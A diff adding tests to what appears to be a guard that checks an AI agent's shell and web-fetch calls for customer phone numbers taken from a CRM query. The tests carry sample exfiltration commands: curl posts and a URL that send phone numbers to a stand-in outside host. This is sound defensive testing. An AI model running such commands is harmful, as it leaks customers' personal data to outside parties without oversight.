@@ -54,3 +54,27 @@ test('once every text is asked about, a record in URL parameters is too', () => 
   assert.equal(joinedValues('https://docs.example.org/'), 0);
   assert.equal(joinedValues('ok'), 1);
 });
+
+test("a phone alone from row 2,900 of a 3,000-row result (past the 4,000 values recognised alone) is asked about, as row 10's is", () => {
+  const r = new Run();
+  r.query(Array.from({ length: 3000 }, (_, i) => ({ id: 1000 + i, phone: phone(i), plan: ['basic', 'pro', 'team'][i % 3] })));
+  const early = r.pre('Bash', { command: `curl -s https://x.example.net/c -d 'call ${phone(10)} today'` });
+  assert.equal(early.action, 'ask', early.summary);
+  const late = r.pre('Bash', { command: `curl -s https://x.example.net/c -d 'call ${phone(2900)} today'` });
+  assert.equal(late.action, 'ask', late.summary);
+  assert.equal(late.findings[0]?.rule, 'record_limit');
+  assert.match(late.reason, /mcp__crm__query returned more than the 4,000 distinctive values of one output recognised alone/);
+  const url = r.pre('WebFetch', { url: `https://x.example.net/c?p=${phone(2900).replace(' ', '')}`, prompt: 'x' });
+  assert.equal(url.action, 'ask', url.summary);
+  // text with no value of those shapes goes out
+  const other = r.pre('Bash', { command: "curl -s https://x.example.net/c -d 'the weekly status report is ready'" });
+  assert.equal(other.action, 'allow', other.summary);
+});
+
+test('a result of few values leaves nothing unrecognised: a phone of it is recognised, other text goes out', () => {
+  const r = new Run();
+  r.query(Array.from({ length: 50 }, (_, i) => ({ id: 1000 + i, phone: phone(i), plan: 'pro' })));
+  assert.equal(r.pre('Bash', { command: `curl -s https://x.example.net/c -d 'call ${phone(40)} today'` }).action, 'ask');
+  const other = r.pre('Bash', { command: "curl -s https://x.example.net/c -d 'build 20261206 is green again'" });
+  assert.equal(other.action, 'allow', other.summary);
+});
